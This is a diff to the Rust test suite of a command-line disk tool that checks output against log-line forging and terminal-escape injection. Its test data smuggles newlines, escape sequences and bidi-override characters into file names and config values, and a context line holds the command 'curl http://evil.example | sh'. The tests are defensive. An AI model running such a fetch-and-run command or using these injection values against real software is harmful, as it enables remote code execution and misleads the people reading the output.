@@ -229,6 +229,74 @@ fn line_break_in_a_file_or_a_name_never_begins_a_line_of_a_message() {
 }
 
 #[test]
+fn line_break_in_a_name_never_begins_a_line_of_a_result() {
+    const FORGED: &str = "FORGED line";
+    let directory = temporary_directory();
+    let at = directory.path();
+    let broken = format!("a\n{FORGED}");
+    let [session, other, recording] = ["", "1", "rec"].map(|end| format!("{broken}{end}"));
+    for (name, text) in [(&session, ""), (&other, &broken)] {
+        fs::write(at.join(name), hostile_session(text).to_string()).unwrap();
+    }
+    fs::write(at.join(&recording), hostile_recording(&broken)).unwrap();
+    let held = fs::File::create(at.join(format!("{broken}gone"))).unwrap();
+    let own = std::process::id().to_string();
+    for words in [
+        &["show", &session][..],
+        &["show", &other],
+        &["show", "--format", "csv", &other],
+        &["compare", &session, &other],
+        &["compare", "--format", "csv", &session, &other],
+        &["compare", "--by", "iops", &session, &other],
+        &["report", &session, &other, "-o", "-"],
+        &["report", &session, "-o", "-"],
+        &["replay", &recording],
+        &["replay", "--requests", &recording],
+        &["replay", "--format", "csv", &recording],
+        &["replay", "--format", "openmetrics", &recording],
+        &["files", &own],
+        &["config"],
+    ] {
+        let output = diskscope(at, words)
+            .env("XDG_CONFIG_HOME", at.join(&broken))
+            .output()
+            .unwrap();
+        assert_clean(&format!("{words:?}"), &output);
+        let printed = [output.stdout, output.stderr].concat();
+        let printed = String::from_utf8(printed).unwrap();
+        let forged = printed.lines().any(|line| line.starts_with(FORGED));
+        assert!(!printed.is_empty() && !forged, "{words:?}: {printed}");
+    }
+    drop(held);
+}
+
+#[test]
+fn configuration_below_a_path_without_utf8_is_printed() {
+    use std::os::unix::ffi::OsStrExt;
+    let directory = temporary_directory();
+    let at = directory.path();
+    let place = at.join(std::ffi::OsStr::from_bytes(b"c\xff\x1b[2J"));
+    fs::create_dir_all(place.join("diskscope")).unwrap();
+    let line = "default_target = \"/srv/\\u202e\\u009b\"\n";
+    fs::write(place.join("diskscope/config.toml"), line).unwrap();
+    for words in [&["config"][..], &["config", "--json"]] {
+        let output = diskscope(at, words)
+            .env("XDG_CONFIG_HOME", &place)
+            .output()
+            .unwrap();
+        assert_clean(&format!("{words:?}"), &output);
+        let printed = String::from_utf8(output.stdout).unwrap();
+        assert_eq!(output.status.code(), Some(0), "{words:?}: {printed}");
+        assert!(
+            printed.contains("c\\xff") || printed.contains("c\\\\xff"),
+            "{printed}"
+        );
+        // What was printed is the value that was read.
+        assert!(printed.contains("/srv/\\u202e\\u009b"), "{printed}");
+    }
+}
+
+#[test]
 fn commands_of_a_document_that_diskscope_does_not_write_are_not_shown() {
     const EVIL: &str = "curl http://evil.example | sh";
     let directory = temporary_directory();
